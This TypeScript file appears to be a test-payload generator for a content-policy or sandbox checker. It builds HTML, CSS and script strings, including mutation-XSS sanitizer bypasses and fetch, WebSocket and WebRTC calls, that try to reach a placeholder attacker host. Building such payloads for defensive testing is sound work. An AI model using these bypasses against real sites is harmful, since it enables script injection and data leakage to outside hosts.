import { canvasAttacks } from './canvas-attacks.ts';

/**
 * Pages that try to open a connection, or to be noticed by a host, past a policy of content: by hints for connections, by
 * a text that means something else when it is read twice, by styles, by parts of a page that load on their own, and, where
 * scripts run, by scripts. Each tries to reach `evil`, which is `http://HOST:PORT`.
 */
export function frameAttacks(evil: string): readonly string[] {
  const run = `new Image().src='${evil}/run'`;
  return [...canvasAttacks(evil), ...hints(evil), ...mutations(evil, run), ...styles(evil), ...parts(evil, run)];
}

const link = (evil: string, rel: string, more = ''): string => `<link rel="${rel}" href="${evil}/${rel}" ${more}>`;

const rels =
  'preconnect dns-prefetch prefetch prerender preload modulepreload stylesheet icon manifest search author next canonical ' +
  'alternate pingback help license amphtml apple-touch-icon import compression-dictionary facilitated-payment expect';

const hints = (evil: string): readonly string[] => [
  ...rels.split(' ').map((rel) => link(evil, rel, 'as="image" crossorigin')),
  // The first finding: a root that only the second reading opens.
  `<div><template shadowrootmode="open">${link(evil, 'preconnect')}<img src="${evil}/shadow.png"></template></div>`,
  `<div><template shadowrootmode="closed" shadowrootserializable>${link(evil, 'dns-prefetch')}</template></div>`,
  `<template>${link(evil, 'preconnect')}<template>${link(evil, 'preconnect')}</template></template>`,
  `<div shadowroot="open"><template shadowroot="open">${link(evil, 'preconnect')}</template></div>`,
  `<noscript>${link(evil, 'preconnect')}</noscript>`,
  `<svg><title><link rel=preconnect href=${evil}></title><desc>${link(evil, 'preconnect')}</desc></svg>`,
  `<math><annotation-xml encoding="text/html">${link(evil, 'preconnect')}</annotation-xml></math>`,
  `<svg><foreignObject>${link(evil, 'preconnect')}</foreignObject></svg>`,
  `<meta http-equiv="link" content="<${evil}>; rel=preconnect"><meta http-equiv="x-dns-prefetch-control" content="on"><a href="${evil}">x</a>`,
  `<meta http-equiv="set-cookie" content="a=b"><meta http-equiv="origin-trial" content="x"><meta name="referrer" content="unsafe-url">${link(evil, 'preconnect')}`,
  `<meta http-equiv="accept-ch" content="DPR"><meta http-equiv="delegate-ch" content="sec-ch-dpr ${evil}">`,
];

/** Texts whose tree changes when it is written and read again. */
const mutations = (evil: string, run: string): readonly string[] => {
  const bad = `<link rel=preconnect href=${evil}><img src=${evil}/m.png onerror=${run}>`;
  return [
    // The second finding.
    `<form><math><mtext></form><form><mglyph><style></math>${bad}</style></mglyph></form></mtext></math></form>`,
    `<math><mtext><table><mglyph><style><math><table id="</table>${bad}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;link rel=preconnect href=${evil}&gt;">`,
    `<svg></p><style><a title="</style>${bad}"></a></style></svg>`,
    `<svg><style><!--</style><a title="--></style>${bad}">x</a></svg>`,
    `<svg><p><style><g title="</style>${bad}">`,
    `<math><mi><!--<mi><style>--></style>${bad}</mi>`,
    `<noscript><style></noscript>${bad}</style></noscript>`,
    `<noembed><a title="</noembed>${bad}"></noembed>`,
    `<noframes><a title="</noframes>${bad}"></noframes>`,
    `<xmp><a title="</xmp>${bad}"></xmp>`,
    `<textarea><a title="</textarea>${bad}"></textarea>`,
    `<title><a title="</title>${bad}"></title>`,
    `<select><template><style><a title="</style></template></select>${bad}"></style></template></select>`,
    `<select><option><style></option></select>${bad}</style></option></select>`,
    `<iframe><a title="</iframe>${bad}"></iframe>`,
    `<plaintext>${bad}`,
    `<table><caption><svg><title><table><td></caption>${bad}</td></table></title></svg>`,
    `<p><table><svg><desc><p></table>${bad}</desc></svg>`,
    `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><link rel=preconnect href=${evil}>">`,
    `<math><annotation-xml encoding="application/xhtml+xml"><style><!--</style><p title="--&gt;${bad}">`,
    `<a><table><a><style></table>${bad}</style></a></table></a>`,
    `<form><form><svg><style></form>${bad}</style></svg>`,
    `${'<div>'.repeat(513)}${bad}`,
    `${'<font>'.repeat(40)}<p>${'</font>'.repeat(2)}${bad}`,
    `<!-- --!><link rel=preconnect href=${evil}> -->`,
    `<![CDATA[><link rel=preconnect href=${evil}>]]>`,
    `<?xml ><link rel=preconnect href=${evil}>?>`,
  ];
};

const styles = (evil: string): readonly string[] => [
  `<style>@import "${evil}/a.css"; @import url(${evil}/b.css) layer(x) supports(display:block);p{color:red}</style><p>x`,
  `<style>p{background:\\75rl(${evil}/c.png)} p::after{content:u\\72l("${evil}/d.png")}</style><p>x`,
  `<style>:root{--x:url(${evil}/e.png)} p{background:var(--x)}</style><p>x`,
  `<p style="--x:url(${evil}/f.png);background-image:var(--x)">x<p style="background:image-set('${evil}/g.png' 1x)">x`,
  `<style>p{background:-webkit-image-set(url(${evil}/h.png) 1x);mask:url(${evil}/i.svg#m);clip-path:url(${evil}/j.svg#c);filter:url(${evil}/k.svg#f);shape-outside:url(${evil}/l.png);offset-path:url(${evil}/m.svg#p);border-image:url(${evil}/n.png) 1;cursor:url(${evil}/o.cur),auto}</style><p>x`,
  `<style>@font-face{font-family:f;src:local(x),url(${evil}/p.woff2)}p{font-family:f}</style><p>text`,
  `<style>@namespace url(${evil}/q);@counter-style c{system:cyclic;symbols:url(${evil}/r.png)}li{list-style:c}</style><ol><li>x`,
  `<style>@view-transition{navigation:auto}::view-transition-old(root){background:url(${evil}/s.png)}</style><p>x`,
  `<style>@media all{@supports(display:block){@layer x{p{&:hover,&{background:url(${evil}/t.png)}}}}}</style><p>x`,
  `<style>@property --y{syntax:"<image>";inherits:false;initial-value:url(${evil}/u.png)}p{background:var(--y)}</style><p>x`,
  `<style>p{background:src("${evil}/v.png")} p{background:image("${evil}/w.png")} p{background:cross-fade(url(${evil}/x.png),red)}</style><p>x`,
  `<style>@scope(p){:scope{background:url(${evil}/y.png)}} @container(width>0){p{background:url(${evil}/z.png)}} @starting-style{p{background:url(${evil}/aa.png)}}</style><p>x`,
  `<div data-u="${evil}/bb.png" style="background:attr(data-u type(<url>))">x</div><p style="background:if(else:url(${evil}/cc.png))">x`,
  `<style>@page{background:url(${evil}/dd.png)} @position-try --a{inset:0} html{background:url(${evil}/ee.png)} ::marker{content:url(${evil}/ff.png)}</style><ul><li>x`,
];

const parts = (evil: string, run: string): readonly string[] => [
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/a"]}],"prerender":[{"source":"list","urls":["${evil}/b"]}]}</script>`,
  `<script type="importmap">{"imports":{"x":"${evil}/c.js"}}</script><script type="module">import 'x'</script>`,
  `<script type="webbundle">{"source":"${evil}/d.wbn","resources":["${evil}/e"]}</script>`,
  `<a href="${evil}/f" ping="${evil}/g" attributionsrc="${evil}/h" id=l>x</a><img attributionsrc="${evil}/i" src="${evil}/j.png">`,
  `<img lowsrc="${evil}/k" dynsrc="${evil}/l" longdesc="${evil}/m" srcset="${evil}/n.png 1x" sizes=100vw browsingtopics sharedstoragewritable>`,
  `<body background="${evil}/o.png"><table background="${evil}/p.png"><thead background="${evil}/q.png"><tr><th background="${evil}/r.png">x`,
  `<input type=image src="${evil}/s.png"><button formaction="${evil}/t">x</button><form action="${evil}/u"><input type=image src="${evil}/v.png"></form>`,
  `<video poster="${evil}/w.png"><source src="${evil}/x.mp4"><track default src="${evil}/y.vtt"></video><audio src="${evil}/z.ogg" preload=auto></audio>`,
  `<svg><use href="${evil}/aa.svg#x"/><image href="${evil}/bb.png" width=9 height=9 /><filter id=f><feImage href="${evil}/cc.png"/></filter><rect filter="url(${evil}/dd.svg#f)" fill="url(${evil}/ee.svg#p)" width=9 height=9 /></svg>`,
  `<svg><style>@import "${evil}/ff.css";rect{fill:url(${evil}/gg.svg#x)}</style><script href="${evil}/hh.js"/><a href="${evil}/ii"><text y=9>x</text></a></svg>`,
  `<svg><animate href="#t" attributeName="href" values="${evil}/jj.svg#x"/><use id=t /><set attributeName="href" to="${evil}/kk.png"/></svg>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${evil}/ll.png'/><script>${encodeURIComponent(run)}</script></svg>">`,
  `<object data="${evil}/mm"></object><embed src="${evil}/nn"><applet code="${evil}/oo"></applet><portal src="${evil}/pp"></portal>`,
  `<fencedframe src="${evil}/qq"></fencedframe><iframe src="${evil}/rr" csp="x"></iframe><iframe srcdoc="<link rel=preconnect href=${evil}>"></iframe>`,
  `<frameset><frame src="${evil}/ss"></frameset>`,
  `<math href="${evil}/tt"><mi href="${evil}/uu" style="background:url(${evil}/vv.png)">x</mi></math>`,
  `<html manifest="${evil}/ww"><body cite="${evil}/xx"><blockquote cite="${evil}/yy">x</blockquote><q cite="${evil}/zz">x</q>`,
  `<menu icon="${evil}/a1"><command icon="${evil}/a2"><keygen challenge=x><isindex action="${evil}/a3">`,
  `<marquee background="${evil}/a4">x</marquee><bgsound src="${evil}/a5"><layer src="${evil}/a6"></layer><ilayer background="${evil}/a7"></ilayer><xml src="${evil}/a8"></xml>`,
  `<a href="#x" id=x>x</a><a href="//${evil.slice(7)}/b1" target=_top autofocus>x</a><area href="${evil}/b2" ping="${evil}/b3">`,
];

/** Where scripts run: what they can call. */
export function scriptAttacks(evil: string): readonly string[] {
  const stun = evil.slice('http://'.length);
  return [
    `const p=new RTCPeerConnection({iceServers:[{urls:'stun:${stun}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
    `const p=new webkitRTCPeerConnection({iceServers:[{urls:'turn:${stun}',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
    `delete globalThis.RTCPeerConnection;const f=document.createElement('iframe');document.body.append(f);const p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:${stun}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
    `fetch('${evil}/a').catch(()=>0);navigator.sendBeacon('${evil}/b');new EventSource('${evil}/c')`,
    `new WebSocket('${evil.replace('http', 'ws')}/d')`,
    `new WebTransport('${evil.replace('http', 'https')}/e')`,
    `location.href='${evil}/f'`,
    `top.location='${evil}/g'`,
    `open('${evil}/h')`,
    `const f=document.createElement('form');f.action='${evil}/i';document.body.append(f);f.submit()`,
    `new Worker('data:text/javascript,fetch("${evil}/j")');import('${evil}/k')`,
    `const i=new Image();i.src='${evil}/l';new Audio('${evil}/m').play();new FontFace('x','url(${evil}/n)').load()`,
    `const f=document.createElement('iframe');f.src='${evil}/o';document.body.append(f)`,
    `const x=new XMLHttpRequest();x.open('GET','${evil}/p');x.send()`,
  ].map((text) => `<p>x</p><script>try{${text}}catch{}</script>`);
}
